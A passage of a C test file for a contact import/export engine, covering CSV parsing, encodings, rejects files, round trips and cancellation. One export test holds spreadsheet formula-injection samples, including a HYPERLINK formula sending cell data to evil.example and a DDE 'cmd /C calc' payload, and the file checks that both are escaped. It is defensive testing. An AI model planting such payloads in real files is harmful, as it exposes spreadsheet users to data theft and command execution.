  g_assert_cmpstr (tb_contact_mapping_get_header (en, 6), ==, "City");

  g_assert_cmpint (tb_contact_mapping_get_column (zh, TB_CONTACT_FIELD_NAME), ==, 1);
  g_assert_cmpint (tb_contact_mapping_get_column (zh, TB_CONTACT_FIELD_PHONE), ==, 2);
  g_assert_cmpint (tb_contact_mapping_get_column (zh, TB_CONTACT_FIELD_COMPANY), ==, 3);
  g_assert_cmpint (tb_contact_mapping_get_column (zh, TB_CONTACT_FIELD_EMAIL), ==, 4);
  g_assert_cmpint (tb_contact_mapping_get_column (zh, TB_CONTACT_FIELD_TIMEZONE), ==, 5);
  g_assert_true (tb_contact_mapping_is_custom (zh, 0));

  g_assert_cmpint (tb_contact_mapping_get_column (t, TB_CONTACT_FIELD_PHONE), ==, 0);
  g_assert_cmpint (tb_contact_mapping_get_column (t, TB_CONTACT_FIELD_NAME), ==, 1);

  /* No header: the phone column is found in the data. */
  g_assert_false (tb_contact_mapping_has_header (none));
  g_assert_cmpint (tb_contact_mapping_get_column (none, TB_CONTACT_FIELD_PHONE), ==, 2);
  g_assert_cmpint (tb_contact_mapping_get_column (none, TB_CONTACT_FIELD_NAME), ==, 0);
  g_assert_cmpstr (tb_contact_mapping_get_header (none, 1), ==, "column_2");

  /* "Number" is a phone alias; override by 1-based number and by header. */
  g_assert_cmpint (tb_contact_mapping_get_column (other, TB_CONTACT_FIELD_PHONE), ==, 1);
  g_assert_true (tb_contact_mapping_apply_spec (other, "name=1,phone=3", &error));
  g_assert_no_error (error);
  g_assert_cmpint (tb_contact_mapping_get_column (other, TB_CONTACT_FIELD_NAME), ==, 0);
  g_assert_cmpint (tb_contact_mapping_get_column (other, TB_CONTACT_FIELD_PHONE), ==, 2);
  g_assert_true (tb_contact_mapping_is_custom (other, 1));
  g_assert_true (tb_contact_mapping_apply_spec (other, "phone=Number,company=Where", &error));
  g_assert_no_error (error);
  g_assert_cmpint (tb_contact_mapping_get_column (other, TB_CONTACT_FIELD_PHONE), ==, 1);
  g_assert_cmpint (tb_contact_mapping_get_column (other, TB_CONTACT_FIELD_COMPANY), ==, 2);

  g_assert_false (tb_contact_mapping_apply_spec (other, "phone=9", &error));
  g_assert_error (error, G_OPTION_ERROR, G_OPTION_ERROR_BAD_VALUE);
  g_assert_nonnull (strstr (error->message, "columns 1 to 3"));
  g_clear_error (&error);
  g_assert_false (tb_contact_mapping_apply_spec (other, "phone=Mobile", &error));
  g_assert_nonnull (strstr (error->message, "Who, Number, Where"));
  g_clear_error (&error);
  g_assert_false (tb_contact_mapping_apply_spec (other, "fax=2", &error));
  g_assert_nonnull (strstr (error->message, "fax"));
  g_clear_error (&error);
  g_assert_false (tb_contact_mapping_apply_spec (other, "phone", &error));
  g_clear_error (&error);
}

static gboolean
import_file (Fixture        *f,
             const char     *path,
             const char     *list,
             const char     *region,
             const char     *map,
             TbImportResult *result,
             GError        **error)
{
  g_auto(TbImportOptions) options = { 0 };

  options.path = g_strdup (path);
  options.list_name = g_strdup (list);
  options.region = g_strdup (region);
  options.map = g_strdup (map);
  return tb_import_run (f->store, &options, NULL, NULL, result, NULL, error);
}

static GPtrArray *
list_contacts (Fixture    *f,
               gint64      list_id)
{
  g_autoptr(GError) error = NULL;
  GPtrArray *out = g_ptr_array_new_with_free_func ((GDestroyNotify) tb_contact_record_free);

  tb_store_list_contacts (f->store, list_id, NULL, TB_CONTACT_SORT_ID, FALSE, 0, 100000, out,
                          &error);
  g_assert_no_error (error);
  return out;
}

static JsonObject *
parse_object (const char *json)
{
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;

  json_parser_load_from_data (parser, json, -1, &error);
  g_assert_no_error (error);
  return json_object_ref (json_node_get_object (json_parser_get_root (parser)));
}

static void
test_import_gbk_chinese (Fixture       *f,
                         gconstpointer  data)
{
  const char *utf8 =
    "姓名,手机号,公司,时区,行业\r\n"
    "张伟,138 0013 8000,北京科技有限公司,,软件\r\n"
    "李娜,+86 139-1234-5678,\"上海,贸易\",Asia/Urumqi,贸易\r\n"
    "王芳,8613800138000,重复,,\r\n";
  g_autofree char *gbk = convert (utf8, "GBK");
  g_autofree char *path = write_file (f, "客户.csv", gbk, -1);
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) contacts = NULL;
  g_autoptr(JsonObject) fields = NULL;
  TbContactRecord *c;

  g_assert_true (import_file (f, path, NULL, "CN", NULL, &result, &error));
  g_assert_no_error (error);
  g_assert_cmpstr (result.list_name, ==, "客户");
  g_assert_cmpstr (result.encoding, ==, "gb18030");
  g_assert_cmpint (result.rows, ==, 3);
  g_assert_cmpint (result.imported, ==, 2);
  g_assert_cmpint (result.duplicates, ==, 1);
  g_assert_cmpint (result.rejected, ==, 0);
  g_assert_null (result.rejects_path);

  contacts = list_contacts (f, result.list_id);
  g_assert_cmpuint (contacts->len, ==, 2);
  c = contacts->pdata[0];
  g_assert_cmpstr (c->name, ==, "张伟");
  g_assert_cmpstr (c->e164, ==, "+8613800138000");
  g_assert_cmpstr (c->raw_phone, ==, "138 0013 8000");
  g_assert_cmpstr (c->company, ==, "北京科技有限公司");
  g_assert_cmpstr (c->country, ==, "CN");
  g_assert_cmpstr (c->number_type, ==, "mobile");
  g_assert_cmpstr (c->timezone, ==, "Asia/Shanghai");
  g_assert_cmpint (c->source_line, ==, 2);
  fields = parse_object (c->fields_json);
  g_assert_cmpstr (json_object_get_string_member (fields, "行业"), ==, "软件");
  g_assert_false (json_object_has_member (fields, "company"));   /* its own column */
  g_assert_false (json_object_has_member (fields, "name"));   /* it has its own column */

  c = contacts->pdata[1];
  g_assert_cmpstr (c->company, ==, "上海,贸易");
  g_assert_cmpstr (c->timezone, ==, "Asia/Urumqi");   /* the file's column wins */

  /* Forced to UTF-8, the GBK bytes are no text: every row is rejected, the
   * header row (invalid too) is still read safely. */
  {
    g_auto(TbImportOptions) options = { 0 };
    g_auto(TbImportResult) forced = { 0 };

    options.path = g_strdup (path);
    options.list_name = g_strdup ("forced");
    options.region = g_strdup ("CN");
    options.encoding = g_strdup ("utf-8");
    g_assert_true (tb_import_run (f->store, &options, NULL, NULL, &forced, NULL, &error));
    g_assert_no_error (error);
    g_assert_cmpint (forced.imported, ==, 0);
    g_assert_cmpint (forced.rejected, ==, 3);
    g_assert_cmpint (forced.rows, ==, 3);
  }
}

static GPtrArray *
read_lines (const char *path)
{
  g_autofree char *text = NULL;
  g_autoptr(GError) error = NULL;
  g_auto(GStrv) lines = NULL;
  GPtrArray *out = g_ptr_array_new_with_free_func (g_free);

  g_file_get_contents (path, &text, NULL, &error);
  g_assert_no_error (error);
  lines = g_strsplit (text, "\r\n", -1);
  for (guint i = 0; lines[i] != NULL; i++)
    if (*lines[i])
      g_ptr_array_add (out, g_strdup (lines[i]));
  return out;
}

static void
test_import_broken_rows (Fixture       *f,
                         gconstpointer  data)
{
  const char *text =
    "name,phone,company,note\n"
    "Ann,(202) 555-0101,Acme,ok\n"          /* 2 */
    "Bad,12ab,Acme,bad\n"                   /* 3: not a number */
    "Empty,,Acme,empty\n"                   /* 4: empty */
    "Multi,\"202 555\n0102\",Acme,\"two\n"  /* 5-6: a good row over two lines */
    "lines\"\n"                             /* (still line 6/7) */
    "Short,123,Acme,x\n"                    /* 8: too short */
    "Dup,+1 202 555 0101,Other,dup\n"       /* 9: duplicate of line 2 */
    "Cee,202-555-0103,Acme,ok\n"            /* 10 */
    "\"Open,202-555-0104,Acme,never closed\n";  /* 11: unterminated */
  g_autofree char *path = write_file (f, "broken.csv", text, -1);
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) contacts = NULL;
  g_autoptr(GPtrArray) lines = NULL;
  g_autofree char *rejects_dir = g_build_filename (f->dir, "rejects", NULL);

  g_assert_true (import_file (f, path, "Broken", "US", NULL, &result, &error));
  g_assert_no_error (error);
  g_assert_cmpint (result.imported, ==, 3);
  g_assert_cmpint (result.duplicates, ==, 1);
  g_assert_cmpint (result.rejected, ==, 4);
  g_assert_cmpint (result.rows, ==, result.imported + result.duplicates + result.rejected);
  /* Lines, not rows: the row on lines 5-7 counts three. */
  g_assert_cmpint (result.lines, ==, 10);
  g_assert_cmpint (result.rejected_lines, ==, 4);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_PHONE_INVALID], ==, 2);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_PHONE_EMPTY], ==, 1);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_UNCLOSED_QUOTE], ==, 1);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_ENCODING], ==, 0);
  g_assert_true (tb_import_result_too_many_rejected (&result));

  contacts = list_contacts (f, result.list_id);
  g_assert_cmpuint (contacts->len, ==, 3);
  g_assert_cmpstr (((TbContactRecord *) contacts->pdata[0])->e164, ==, "+12025550101");
  g_assert_cmpstr (((TbContactRecord *) contacts->pdata[0])->company, ==, "Acme");  /* first wins */
  g_assert_cmpstr (((TbContactRecord *) contacts->pdata[1])->e164, ==, "+12025550102");
  g_assert_cmpint (((TbContactRecord *) contacts->pdata[1])->source_line, ==, 5);
  g_assert_cmpstr (((TbContactRecord *) contacts->pdata[2])->e164, ==, "+12025550103");

  /* The rejects file sits next to the database and names each line and reason. */
  g_assert_nonnull (result.rejects_path);
  g_assert_true (g_str_has_prefix (result.rejects_path, rejects_dir));
  g_assert_true (g_str_has_suffix (result.rejects_path, ".csv"));
  g_assert_nonnull (strstr (result.rejects_path, "/Broken-"));
  lines = read_lines (result.rejects_path);
  g_assert_cmpuint (lines->len, ==, 5);
  g_assert_cmpstr (lines->pdata[0], ==, "line,reason,name,phone,company,note");
  g_assert_cmpstr (lines->pdata[1], ==, "3,phone “12ab” is not a number,Bad,12ab,Acme,bad");
  g_assert_cmpstr (lines->pdata[2], ==, "4,phone is empty,Empty,,Acme,empty");
  g_assert_true (g_str_has_prefix (lines->pdata[3], "8,phone “123” is not"));
  g_assert_true (g_str_has_prefix (lines->pdata[4],
                                   "11,a quoted field is not closed before the end of the file,"));
}

/* The rejects file keeps each rejected line as the file had it: a line with
 * a stray quote, a Latin-1 line in a UTF-8 file, byte for byte. */
static void
test_import_rejects_whole (Fixture       *f,
                           gconstpointer  data)
{
  static const char text[] =
    "name,phone,company\n"
    "Ann,+1 202 555 0101,Acme\n"
    "Bob,\"+1 202 555 0102,Acme\n"                  /* 3: a stray quote */
    "Jos\xe9,+1 202 555 0103,Caf\xe9\n"              /* 4: Latin-1 */
    "Cee,+1 202 555 0104,Acme\n"
    "Dee,+1 202 555 0105,\"Acme, \"\"Inc\"\"\"\n"
    "Åsa,+1 202 555 0106,Malmö\n"
    "Zoë,+1 202 555 0107,Tórshavn\n";
  g_autofree char *path = write_file (f, "whole.csv", text, sizeof text - 1);
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  g_autofree char *rejects = NULL;
  g_autoptr(GPtrArray) contacts = NULL;

  g_assert_true (import_file (f, path, "Whole", "US", NULL, &result, &error));
  g_assert_no_error (error);
  g_assert_cmpstr (result.encoding, ==, "utf-8");
  g_assert_cmpint (result.imported, ==, 5);
  g_assert_cmpint (result.rejected, ==, 2);
  g_assert_cmpint (result.lines, ==, 7);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_UNCLOSED_QUOTE], ==, 1);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_ENCODING], ==, 1);
  g_assert_false (result.encoding_certain);
  contacts = list_contacts (f, result.list_id);
  g_assert_cmpstr (((TbContactRecord *) contacts->pdata[2])->company, ==, "Acme, \"Inc\"");

  g_assert_true (g_file_get_contents (result.rejects_path, &rejects, NULL, &error));
  g_assert_cmpstr (rejects, ==,
                   "line,reason,name,phone,company\r\n"
                   "3,a quoted field runs past the end of its line (a stray quote?),"
                   "\"Bob,\"\"+1 202 555 0102,Acme\"\r\n"
                   "4,not valid UTF-8 (looks like Latin-1),Jos\xe9,+1 202 555 0103,Caf\xe9\r\n");
}

/* Lines over 1 MiB are rejected whole, however many: the batches that carry
 * them to the rejects file are handed over before they grow without bound. */
static void
test_import_huge_lines (Fixture       *f,
                        gconstpointer  data)
{
  g_autoptr(GString) text = g_string_new ("name,phone\n");
  g_autofree char *big = g_strnfill (3 * 1024 * 1024, 'x');
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  g_autofree char *rejects = NULL;
  g_autofree char *path = NULL;
  gsize len = 0;

  for (guint i = 0; i < 6; i++)
    g_string_append_printf (text, "Ann %u,+1 202 555 01%02u\nBig %u,%s\n", i, i, i, big);
  path = write_file (f, "huge-lines.csv", text->str, text->len);
  g_assert_true (import_file (f, path, "Huge", "US", NULL, &result, &error));
  g_assert_no_error (error);
  g_assert_cmpint (result.imported, ==, 6);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_TOO_LONG], ==, 6);
  g_assert_true (g_file_get_contents (result.rejects_path, &rejects, &len, &error));
  /* Each line whole: "Big N," and its 3 MiB, with line number and reason. */
  g_assert_cmpuint (len, >, 6 * (3 * 1024 * 1024 + 6));
  g_assert_nonnull (strstr (rejects, "\r\n13,the record is longer than 1 MiB,"
                                     "\"Big 5,xxx"));
}

/* Issue 19 §4: cells a spreadsheet would run as formulas are exported as
 * text ('=…); E.164 numbers are numbers, not formulas, and stay as they are. */
static void
test_export_formulas (Fixture       *f,
                      gconstpointer  data)
{
  const char *text =
    "name,phone,company,note,office\n"
    "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",+1 202 555 0101,"
    "+cmd|' /C calc'!A0,@SUM(1+1),-2+3\n"
    "Bob,+1 202 555 0102,Acme,\tTab,+12025550199\n";
  g_autofree char *path = write_file (f, "evil.csv", text, -1);
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autofree char *exported = NULL;

  g_assert_true (import_file (f, path, "Evil", "US", NULL, &result, &error));
  g_assert_no_error (error);
  g_assert_cmpint (result.imported, ==, 2);
  g_assert_cmpint (tb_contacts_export (f->store, result.list_id, out, FALSE, NULL, &error), ==,
                   2);
  g_assert_no_error (error);
  g_output_stream_write_all (out, "", 1, NULL, NULL, &error);
  g_output_stream_close (out, NULL, &error);
  exported = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
  g_assert_cmpstr (exported, ==,
                   "name,phone,company,email,timezone,persona,note,office\r\n"
                   "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
                   "+12025550101,'+cmd|' /C calc'!A0,,America/New_York,,'@SUM(1+1),'-2+3\r\n"
                   "Bob,+12025550102,Acme,,America/New_York,,'\tTab,+12025550199\r\n");
}

static void
on_exported (GObject      *source,
             GAsyncResult *result,
             gpointer      user_data)
{
  GAsyncResult **out = user_data;

  *out = g_object_ref (result);
}

static gint64
export_to_file (Fixture       *f,
                gint64         list_id,
                GFile         *file,
                GCancellable  *cancellable,
                GError       **error)
{
  g_autoptr(GAsyncResult) result = NULL;

  tb_contacts_export_file_async (f->store, list_id, file, FALSE, cancellable, on_exported,
                                 &result);
  while (result == NULL)
    g_main_context_iteration (NULL, TRUE);
  return tb_contacts_export_file_finish (result, error);
}

/* The window's export (#18 §6, engine work in the engine): in a thread on its own connection,
 * into a file its owner alone may read; a cancelled export leaves the old file whole. */
static void
test_export_file (Fixture       *f,
                  gconstpointer  data)
{
  g_autofree char *csv = write_file (f, "in.csv",
                                     "name,phone\nAda,+1 202 555 0101\nBob,+1 202 555 0102\n", -1);
  g_autofree char *path = g_build_filename (f->dir, "out.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GCancellable) cancel = g_cancellable_new ();
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  GStatBuf st;

  g_assert_true (import_file (f, csv, "Two", "US", NULL, &result, &error));
  g_assert_no_error (error);
  g_assert_cmpint (export_to_file (f, result.list_id, file, NULL, &error), ==, 2);
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_true (g_str_has_prefix (contents, "name,phone,"));
  g_assert_nonnull (strstr (contents, "Bob,+12025550102,"));
  g_assert_cmpint (g_stat (path, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);

  g_cancellable_cancel (cancel);
  g_assert_cmpint (export_to_file (f, result.list_id, file, cancel, &error), ==, -1);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_pointer (&contents, g_free);
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_nonnull (strstr (contents, "Bob,+12025550102,"));
}

static void
test_import_custom_fields_and_override (Fixture       *f,
                                        gconstpointer  data)
{
  const char *text =
    "Contact;Office;Cell;Industry;Size\n"
    "Ann;+1 202 555 0199;202-555-0101;Bakery;12\n"
    "Bob;;202-555-0102;\"Auto; repair\";\n";
  g_autofree char *path = write_file (f, "custom.csv", text, -1);
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) contacts = NULL;
  g_autoptr(JsonObject) ann = NULL;
  g_autoptr(JsonObject) bob = NULL;

  /* "Cell" is an alias of phone, but the user says the phone is "Cell" by
   * header and the name is column 1; "Office" stays a custom field. */
  g_assert_true (import_file (f, path, "Custom", "US", "phone=Cell,name=1", &result, &error));
  g_assert_no_error (error);
  g_assert_cmpint (result.imported, ==, 2);
  contacts = list_contacts (f, result.list_id);
  ann = parse_object (((TbContactRecord *) contacts->pdata[0])->fields_json);
  bob = parse_object (((TbContactRecord *) contacts->pdata[1])->fields_json);
  g_assert_cmpstr (((TbContactRecord *) contacts->pdata[0])->e164, ==, "+12025550101");
  g_assert_cmpstr (((TbContactRecord *) contacts->pdata[0])->name, ==, "Ann");
  g_assert_cmpstr (json_object_get_string_member (ann, "Office"), ==, "+1 202 555 0199");
  g_assert_cmpstr (json_object_get_string_member (ann, "Industry"), ==, "Bakery");
  g_assert_cmpstr (json_object_get_string_member (ann, "Size"), ==, "12");
  g_assert_cmpstr (json_object_get_string_member (bob, "Industry"), ==, "Auto; repair");
  g_assert_false (json_object_has_member (bob, "Size"));

  /* Override by column number to the other phone column. */
  tb_import_result_clear (&result);
  g_assert_true (import_file (f, path, "Office", "US", "phone=2", &result, &error));
  g_assert_cmpint (result.imported, ==, 1);
  g_assert_cmpint (result.rejected, ==, 1);

  /* A bad override fails the whole import and leaves nothing. */
  tb_import_result_clear (&result);
  g_assert_false (import_file (f, path, "Nothing", "US", "phone=Fax", &result, &error));
  g_assert_error (error, G_OPTION_ERROR, G_OPTION_ERROR_BAD_VALUE);
  g_assert_cmpint (tb_store_find_list (f->store, "Nothing"), ==, 0);
}

static GHashTable *
e164_set (Fixture *f,
          gint64   list_id)
{
  g_autoptr(GPtrArray) contacts = list_contacts (f, list_id);
  GHashTable *set = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);

  for (guint i = 0; i < contacts->len; i++) {
    TbContactRecord *c = contacts->pdata[i];
    g_autoptr(JsonObject) fields = parse_object (c->fields_json);

    /* Compare the fields as a canonical JSON text: members sorted by key. */
    {
      g_autoptr(GList) members = json_object_get_members (fields);
      g_autoptr(GString) s = g_string_new (NULL);

      members = g_list_sort (members, (GCompareFunc) strcmp);
      for (GList *l = members; l; l = l->next)
        g_string_append_printf (s, "%s=%s;", (char *) l->data,
                                json_object_get_string_member (fields, l->data));
      g_string_append_printf (s, "name=%s;tz=%s;persona=%s", c->name, c->timezone, c->persona);
      g_hash_table_insert (set, g_strdup (c->e164), g_string_free (g_steal_pointer (&s), FALSE));
    }
  }
  return set;
}

static void
test_round_trip (Fixture       *f,
                 gconstpointer  data)
{
  const char *text =
    "name,tel,company,persona,city,note\n"
    "Ann,13800138000,\"Acme, Ltd\",interested,北京,\"says \"\"call me\"\"\"\n"
    "Bob,+1 202 555 0101,,polite_no,DC,\"two\nlines\"\n"
    "Cid,+44 20 7946 0018,Tea,,London,\n";
  g_autofree char *path = write_file (f, "orig.csv", text, -1);
  g_autofree char *out_path = g_build_filename (f->dir, "export.csv", NULL);
  g_auto(TbImportResult) first = { 0 };
  g_auto(TbImportResult) second = { 0 };
  g_autoptr(GError) error = NULL;
  g_autoptr(GFile) out_file = g_file_new_for_path (out_path);
  g_autoptr(GFileOutputStream) out = NULL;
  g_autoptr(GHashTable) a = NULL;
  g_autoptr(GHashTable) b = NULL;
  g_autofree char *exported = NULL;
  GHashTableIter iter;
  gpointer key, value;

  g_assert_true (import_file (f, path, "First", "CN", NULL, &first, &error));
  g_assert_no_error (error);
  g_assert_cmpint (first.imported, ==, 3);

  out = g_file_replace (out_file, NULL, FALSE, G_FILE_CREATE_NONE, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (tb_contacts_export (f->store, first.list_id, G_OUTPUT_STREAM (out), TRUE,
                                       NULL, &error), ==, 3);
  g_assert_no_error (error);
  g_output_stream_close (G_OUTPUT_STREAM (out), NULL, &error);
  g_assert_no_error (error);

  g_file_get_contents (out_path, &exported, NULL, &error);
  g_assert_true (g_str_has_prefix (exported, "\xef\xbb\xbfname,phone,company,email,timezone,"
                                   "persona,city,note\r\n"));
  g_assert_nonnull (strstr (exported, "\"Acme, Ltd\""));
  g_assert_nonnull (strstr (exported, "\"says \"\"call me\"\"\""));

  /* The export reads back (BOM and all) into the same numbers and fields. */
  g_assert_true (import_file (f, out_path, "Second", "US", NULL, &second, &error));
  g_assert_no_error (error);
  g_assert_cmpstr (second.encoding, ==, "utf-8-bom");
  g_assert_cmpint (second.imported, ==, 3);
  g_assert_cmpint (second.rejected, ==, 0);

  a = e164_set (f, first.list_id);
  b = e164_set (f, second.list_id);
  g_assert_cmpuint (g_hash_table_size (a), ==, g_hash_table_size (b));
  g_hash_table_iter_init (&iter, a);
  while (g_hash_table_iter_next (&iter, &key, &value)) {
    g_test_message ("%s: %s", (char *) key, (char *) value);
    g_assert_cmpstr (g_hash_table_lookup (b, key), ==, value);
  }
}

/* Issue 19 §4: contact fields are spoken by the synthesizer. One that looks
 * like a formula, holds markup (SSML) or runs on is not said: the script's
 * fallback is, as if the field were empty. */
static void
test_variables_unsafe (void)
{
  g_autofree char *long_text = g_strnfill (81, 'a');
  g_autofree char *fields = g_strdup_printf ("{\"city\":\"Paris\",\"memo\":\"%s\","
                                             "\"office\":\"+12025550199\","
                                             "\"pitch\":\"<speak>buy</speak>\","
                                             "\"score\":\"-1\",\"at\":\"@home\","
                                             "\"ok80\":\"%.*s\"}", long_text, 80, long_text);
  g_autoptr(GHashTable) vars = tb_contact_variables_new ("=HYPERLINK(\"http://x\")", "Acme",
                                                         fields);
  g_autoptr(GHashTable) vars2 = tb_contact_variables_new ("Ann", "<b>Acme</b>", NULL);
  g_autoptr(TbScript) script = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *said = NULL;
  g_autofree char *said2 = NULL;

  g_assert_false (g_hash_table_contains (vars, "name"));
  g_assert_cmpstr (g_hash_table_lookup (vars, "company"), ==, "Acme");
  g_assert_cmpstr (g_hash_table_lookup (vars, "city"), ==, "Paris");
  g_assert_false (g_hash_table_contains (vars, "memo"));     /* 81 characters */
  g_assert_nonnull (g_hash_table_lookup (vars, "ok80"));      /* 80 are fine */
  g_assert_false (g_hash_table_contains (vars, "pitch"));
  g_assert_false (g_hash_table_contains (vars, "score"));
  g_assert_false (g_hash_table_contains (vars, "at"));
  g_assert_cmpstr (g_hash_table_lookup (vars, "office"), ==, "+12025550199");

  script = tb_script_new_from_data ("{\"telebot_script\":1,\"variables\":{\"name\":\"there\","
                                    "\"company\":\"your company\"}}", -1, NULL, &error);
  g_assert_no_error (error);
  said = tb_script_expand_text (script, "Hello {name}, from {company} in {city}.", vars);
  g_assert_cmpstr (said, ==, "Hello there, from Acme in Paris.");
  said2 = tb_script_expand_text (script, "Hello {name}, from {company}.", vars2);
  g_assert_cmpstr (said2, ==, "Hello Ann, from your company.");
}

static void
on_cancel_progress (gint64   rows,
                    double   fraction,
                    gpointer user_data)
{
  if (rows >= 8192)
    g_cancellable_cancel (user_data);
}

static char *
write_big (Fixture    *f,
           const char *name,
           guint       n,
           guint       first)
{
  g_autoptr(GString) s = g_string_new ("name,phone,company\n");

  for (guint i = 0; i < n; i++) {
    if (i == 3)
      g_string_append (s, "bad,12ab,x\n");   /* a reject, so a rejects file exists */
    g_string_append_printf (s, "P%u,+1 202 %03u %04u,C\n", i, 200 + (first + i) / 10000,
                            (first + i) % 10000);
  }
  return write_file (f, name, s->str, s->len);
}

static void
test_cancel (Fixture       *f,
             gconstpointer  data)
{
  g_autofree char *small = write_big (f, "small.csv", 10, 0);
  g_autofree char *big = write_big (f, "big.csv", 40000, 5);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_auto(TbImportResult) result = { 0 };
  g_auto(TbImportOptions) options = { 0 };
  g_autoptr(GError) error = NULL;
  g_autofree char *rejects_dir = g_build_filename (f->dir, "rejects", NULL);
  g_autoptr(GPtrArray) before = NULL;
  g_autoptr(GPtrArray) after = NULL;
  gint64 list_id;
  guint n_rejects_files = 0;

  g_assert_true (import_file (f, small, "Kept", "US", NULL, &result, &error));
  g_assert_cmpint (result.imported, ==, 10);
  list_id = result.list_id;
  before = list_contacts (f, list_id);
  g_unlink (result.rejects_path);
  tb_import_result_clear (&result);

  options.path = g_strdup (big);
  options.list_name = g_strdup ("Kept");
  options.region = g_strdup ("US");
  g_assert_false (tb_import_run (f->store, &options, on_cancel_progress, cancellable, &result,
                                 cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);

  after = list_contacts (f, list_id);
  g_assert_cmpuint (after->len, ==, before->len);
  for (guint i = 0; i < after->len; i++)
    g_assert_cmpstr (((TbContactRecord *) after->pdata[i])->e164, ==,
                     ((TbContactRecord *) before->pdata[i])->e164);
  /* A cancelled import into a new list leaves no list either, and no rejects. */
  g_cancellable_reset (cancellable);
  g_free (options.list_name);
  options.list_name = g_strdup ("Never");
  g_assert_false (tb_import_run (f->store, &options, on_cancel_progress, cancellable, &result,
                                 cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_cmpint (tb_store_find_list (f->store, "Never"), ==, 0);
  {
    g_autoptr(GDir) dir = g_dir_open (rejects_dir, 0, NULL);

    while (dir && g_dir_read_name (dir))
      n_rejects_files++;
  }
  g_assert_cmpuint (n_rejects_files, ==, 0);
  g_assert_false (tb_store_in_transaction (f->store));
}

typedef struct {
  GMainLoop      *loop;
  TbImportResult  result;
  GError         *error;
  guint           n_notifies;
  GThread        *main_thread;
  GCancellable   *cancel_on_progress;
} JobRun;

static void
on_job_rows (TbImportJob *job,
             GParamSpec  *pspec,
             JobRun      *run)
{
  g_assert_true (g_thread_self () == run->main_thread);
  run->n_notifies++;
  if (run->cancel_on_progress != NULL)
    g_cancellable_cancel (run->cancel_on_progress);
}

static void
job_done_cb (GObject      *source,
             GAsyncResult *res,
             gpointer      user_data)
{
  JobRun *run = user_data;

  tb_import_job_run_finish (TB_IMPORT_JOB (source), res, &run->result, &run->error);
  g_main_loop_quit (run->loop);
}

/* The worker thread drops its reference on the task (and so on the job) a
 * moment after the result is delivered: wait for it, then the job must go. */
static void
unref_and_wait_finalize (gpointer object)
{
  gpointer weak = object;
  gint64 deadline = g_get_monotonic_time () + 5 * G_USEC_PER_SEC;

  g_object_add_weak_pointer (object, &weak);
  g_object_unref (object);
  while (weak != NULL && g_get_monotonic_time () < deadline) {
    if (!g_main_context_iteration (NULL, FALSE))
      g_usleep (1000);
  }
  g_assert_null (weak);
}

static void
test_job (Fixture       *f,
          gconstpointer  data)
{
  g_autofree char *big = write_big (f, "job.csv", 30000, 0);
  g_auto(TbImportOptions) options = { 0 };
  JobRun run = { 0 };
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  TbImportJob *job;

  options.path = g_strdup (big);
  options.list_name = g_strdup ("Job");
  options.region = g_strdup ("US");

  /* A job on its own connection, with progress on this thread. */
  run.loop = g_main_loop_new (NULL, FALSE);
  run.main_thread = g_thread_self ();
  job = tb_import_job_new (f->db_path, &options);
  g_signal_connect (job, "notify::rows", G_CALLBACK (on_job_rows), &run);
  tb_import_job_run_async (job, NULL, job_done_cb, &run);
  g_main_loop_run (run.loop);
  g_assert_no_error (run.error);
  g_assert_cmpint (run.result.imported, ==, 30000);
  g_assert_cmpint (run.result.rejected, ==, 1);
  g_assert_cmpuint (run.n_notifies, >=, 2);
  g_assert_cmpint (tb_import_job_get_rows (job), ==, 30001);
  g_assert_cmpfloat (tb_import_job_get_fraction (job), ==, 1.0);
  g_assert_cmpint (tb_store_count_contacts (f->store, run.result.list_id, NULL), ==, 30000);
  tb_import_result_clear (&run.result);
  unref_and_wait_finalize (job);

  /* Cancelled from the main thread at the first progress report. */
  g_free (options.path);
  options.path = write_big (f, "job-big.csv", 200000, 0);
  g_free (options.list_name);
  options.list_name = g_strdup ("Cancelled");
  run.n_notifies = 0;
  run.cancel_on_progress = cancellable;
  job = tb_import_job_new (f->db_path, &options);
  g_signal_connect (job, "notify::rows", G_CALLBACK (on_job_rows), &run);
  tb_import_job_run_async (job, cancellable, job_done_cb, &run);
  g_main_loop_run (run.loop);
  g_assert_error (run.error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&run.error);
  g_assert_cmpint (tb_store_find_list (f->store, "Cancelled"), ==, 0);
  unref_and_wait_finalize (job);
